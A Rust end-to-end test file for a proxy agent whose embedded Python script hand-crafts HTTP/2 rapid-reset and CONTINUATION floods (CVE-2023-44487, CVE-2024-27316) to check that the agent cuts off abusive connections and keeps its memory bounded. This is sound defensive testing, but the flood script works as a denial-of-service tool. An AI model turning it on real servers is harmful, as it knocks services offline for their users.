//! End-to-end tests of the L7 data path under HTTP/2 abuse: a rapid-reset
//! flood (CVE-2023-44487) and a CONTINUATION flood (CVE-2024-27316 and
//! kin) from a pod against a service VIP. The attacker writes frames by hand
//! (python3's `struct` and `hpack`) over h2c with prior knowledge; the
//! endpoint is a plain HTTP/1.1 python server. Each test checks that the
//! agent ends the abusive connection, stays alive with bounded memory, and
//! still serves an ordinary request afterwards. See tests/README.md.
//!
//! The helpers at the top are shared in spirit with `http_routing.rs` (each
//! test target is its own crate); keep them in step.

// Children spawned through a world are reaped by the world when it shuts down.
#![allow(clippy::zombie_processes)]

use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use serde_json::Value;
use waymark_tests::fixtures::{Endpoint, Service, services_toml};
use waymark_tests::{
    Node, Pod, Server, World, WorldBuilder, curl, http_app, python, require_agent_or_skip,
    with_world, world_name,
};

/// How much the agent's resident set may grow over a flood: generous, as
/// the allocator keeps freed memory, but far below what an unbounded queue
/// of 20,000 streams or 8 MiB of header blocks per connection would take
/// once repeated.
const RSS_GROWTH_LIMIT_KIB: u64 = 64 * 1024;

/// The attacker: h2c prior knowledge to HOST PORT, frames written by hand.
/// `reset PAIRS` sends HEADERS + RST_STREAM(CANCEL) pairs on new streams;
/// `continuation BYTES` sends one HEADERS without END_HEADERS and then
/// CONTINUATION frames, never END_HEADERS. Either stops at its bound, after
/// 10 s, or once the agent has ended the connection (GOAWAY, EOF or an error
/// on the socket), and prints one JSON report.
const FLOOD: &str = r#"
import json, socket, struct, sys, threading, time
import hpack

mode, host, port, bound = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x7, 0x9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

s = socket.create_connection((host, port), timeout=10)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
# A small send buffer, so "sent" is close to what reached the agent.
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

r = {"mode": mode, "goaway": None, "closed": None, "rst_received": 0, "headers_received": 0}
lock = threading.Lock()
ended = threading.Event()
got_settings = threading.Event()
sent = [0]

def note_end(what, value):
    with lock:
        if r[what] is None:
            r[what] = value
        if "ended_at_sent" not in r:
            r["ended_at_sent"] = sent[0]
            r["ended_after_s"] = round(time.monotonic() - t0, 3)
    ended.set()

def reader():
    buf = b""
    while True:
        try:
            d = s.recv(65536)
        except OSError as e:
            note_end("closed", "recv: " + type(e).__name__)
            return
        if not d:
            note_end("closed", "eof")
            return
        buf += d
        while len(buf) >= 9:
            size = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + size:
                break
            kind, flags = buf[3], buf[4]
            payload = buf[9:9 + size]
            buf = buf[9 + size:]
            if kind == SETTINGS and not flags & ACK:
                try:
                    s.sendall(frame(SETTINGS, ACK, 0))
                except OSError:
                    pass
                got_settings.set()
            elif kind == GOAWAY:
                last, code = struct.unpack(">II", payload[:8])
                note_end("goaway", {"code": code, "last_stream_id": last & 0x7fffffff,
                                    "debug": payload[8:].decode("latin-1")})
            elif kind == RST_STREAM:
                r["rst_received"] += 1
            elif kind == HEADERS:
                r["headers_received"] += 1

t0 = time.monotonic()
threading.Thread(target=reader, daemon=True).start()
if not got_settings.wait(5):
    print(json.dumps({"error": "no SETTINGS from the agent", **r}), flush=True)
    sys.exit(0)

enc = hpack.Encoder()
block = enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "flood.test"),
                    (":path", "/flood")], huffman=False)
deadline = time.monotonic() + 10
try:
    if mode == "reset":
        # 100 pairs per write: as fast as the socket takes them.
        rst = struct.pack(">I", 0x8)  # CANCEL
        stream = 1
        while sent[0] < bound and not ended.is_set() and time.monotonic() < deadline:
            batch = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, block)
                             + frame(RST_STREAM, 0, stream + 2 * i, rst)
                             for i in range(min(100, bound - sent[0])))
            n = len(batch) // (2 * 9 + len(block) + 4)
            s.sendall(batch)
            stream += 2 * n
            sent[0] += n
    else:
        # Literal header fields without indexing, ~4 KB each, one per frame.
        field = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-flood", "a" * 4000)],
                                       huffman=False)
        s.sendall(frame(HEADERS, END_STREAM, 1, block))
        sent[0] += 9 + len(block)
        cont = frame(CONTINUATION, 0, 1, field)
        while sent[0] < bound and not ended.is_set() and time.monotonic() < deadline:
            s.sendall(cont)
            sent[0] += len(cont)
except OSError as e:
    note_end("closed", "send: " + type(e).__name__)
r["sent"] = sent[0]
r["send_s"] = round(time.monotonic() - t0, 3)
# The agent's verdict may still be in flight: give it a moment.
ended.wait(5)
time.sleep(0.2)
with lock:
    print(json.dumps(r), flush=True)
"#;

/// Runs the attacker in `pod` against `vip` and parses its report.
fn flood(pod: &Pod, mode: &str, vip: &str, bound: u64) -> Result<Value> {
    let (host, port) = vip.split_once(':').expect("ip:port");
    let out = pod.run_timeout(
        python().args(["-c", FLOOD, mode, host, port, &bound.to_string()]),
        Duration::from_secs(60),
    )?;
    let stdout = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(stdout.trim()).with_context(|| {
        format!(
            "{mode} flood in {} said {stdout:?} ({}), stderr: {}",
            pod.name(),
            out.status,
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// The agent's resident set in KiB.
fn agent_rss_kib(node: &Node) -> Result<u64> {
    let pid = node.agent_pid().context("the agent is not running")?;
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .with_context(|| format!("no VmRSS in /proc/{pid}/status"))
}

/// How the agent ended the attacker's connection, for messages.
fn verdict(r: &Value) -> String {
    match (&r["goaway"], &r["closed"]) {
        (Value::Object(g), _) => format!(
            "GOAWAY code {} ({}) last_stream_id {}",
            g["code"], g["debug"], g["last_stream_id"]
        ),
        (_, Value::String(c)) => format!("closed ({c}) without GOAWAY"),
        _ => "not ended".to_string(),
    }
}

/// One curl GET to `vip` from `pod`: the status code.
fn curl_status(pod: &Pod, vip: &str) -> Result<String> {
    Ok(curl(pod, &format!("http://{vip}/after"), &[])?
        .0
        .to_string())
}

/// Services: `flood` at `vip` with the HTTP/1.1 app in pod (1, 0).
fn builder(name: &str, vip: &str) -> WorldBuilder {
    let flood = Service::new("flood", vip)
        .protocol("http1")
        .endpoint(Endpoint::pod(1, 0, 8080));
    World::builder(name)
        .nodes(2)
        .pods_per_node(1)
        .agent_config_extra(services_toml(&[flood]))
}

/// The checks after a flood: the agent ended the connection, is alive, grew
/// by less than the limit, and serves a normal request on a new connection
/// from the attacker's pod (through the same agent).
fn check_after(world: &World, vip: &str, r: &Value, rss_before: u64) -> Result<u64> {
    let node = world.node(0);
    ensure!(
        !r["goaway"].is_null() || !r["closed"].is_null(),
        "the agent never ended the attacking connection: {r}"
    );
    let (status, body) = node.admin_get("/live")?;
    ensure!(status == 200, "/live after the flood: {status} {body}");
    let rss_after = agent_rss_kib(node)?;
    ensure!(
        rss_after < rss_before + RSS_GROWTH_LIMIT_KIB,
        "the agent's RSS grew from {rss_before} KiB to {rss_after} KiB over the flood ({})",
        verdict(r)
    );
    let status = curl_status(world.pod(0, 0), vip)?;
    ensure!(
        status == "200",
        "a normal request after the flood got {status:?} ({})",
        verdict(r)
    );
    Ok(rss_after)
}

/// (1) 20,000 HEADERS + RST_STREAM(CANCEL) pairs on one connection: the
/// agent ends it, stays alive and small, and serves the next request.
#[test]
fn h2_rapid_reset_flood_is_contained() {
    require_agent_or_skip!();
    const VIP: &str = "10.96.0.30:80";
    const PAIRS: u64 = 20_000;
    with_world(builder(world_name!(), VIP), |world| {
        let (cl, node) = (world.pod(0, 0), world.node(0));
        let _app: Server = http_app(world.pod(1, 0), 8080, world.pod(1, 0).name(), &[])?;
        let status = curl_status(cl, VIP)?;
        ensure!(status == "200", "the service before the flood: {status:?}");
        let rss_before = agent_rss_kib(node)?;
        let t0 = Instant::now();
        let r = flood(cl, "reset", VIP, PAIRS)?;
        let took = t0.elapsed();
        let rss_after = check_after(world, VIP, &r, rss_before)?;
        eprintln!(
            "rapid reset: {} after {} of {PAIRS} pairs ({} s); RSS {rss_before} -> {rss_after} KiB; \
             the attacker ran {took:?}: {r}",
            verdict(&r),
            r["ended_at_sent"],
            r["ended_after_s"],
        );
        Ok(())
    });
}

/// (2) HEADERS without END_HEADERS, then CONTINUATION frames without end
/// (up to 8 MiB): the agent ends the connection long before, stays alive and
/// small, and serves the next request.
#[test]
fn h2_continuation_flood_is_rejected() {
    require_agent_or_skip!();
    const VIP: &str = "10.96.0.31:80";
    const BYTES: u64 = 8 << 20;
    with_world(builder(world_name!(), VIP), |world| {
        let (cl, node) = (world.pod(0, 0), world.node(0));
        let _app: Server = http_app(world.pod(1, 0), 8080, world.pod(1, 0).name(), &[])?;
        let status = curl_status(cl, VIP)?;
        ensure!(status == "200", "the service before the flood: {status:?}");
        let rss_before = agent_rss_kib(node)?;
        let t0 = Instant::now();
        let r = flood(cl, "continuation", VIP, BYTES)?;
        let took = t0.elapsed();
        let rss_after = check_after(world, VIP, &r, rss_before)?;
        // The agent allows a 128 KiB header list; the connection must end
        // within a small multiple of that (socket buffers absorb some more
        // before the attacker sees the end), never near the full 8 MiB.
        let at = r["ended_at_sent"].as_u64().context("ended_at_sent")?;
        ensure!(
            at < 2 << 20,
            "the agent took {at} of {BYTES} bytes of one header block before ending it ({}): {r}",
            verdict(&r)
        );
        eprintln!(
            "continuation flood: {} after {at} of {BYTES} bytes ({} s); RSS {rss_before} -> \
             {rss_after} KiB; the attacker ran {took:?}: {r}",
            verdict(&r),
            r["ended_after_s"],
        );
        Ok(())
    });
}
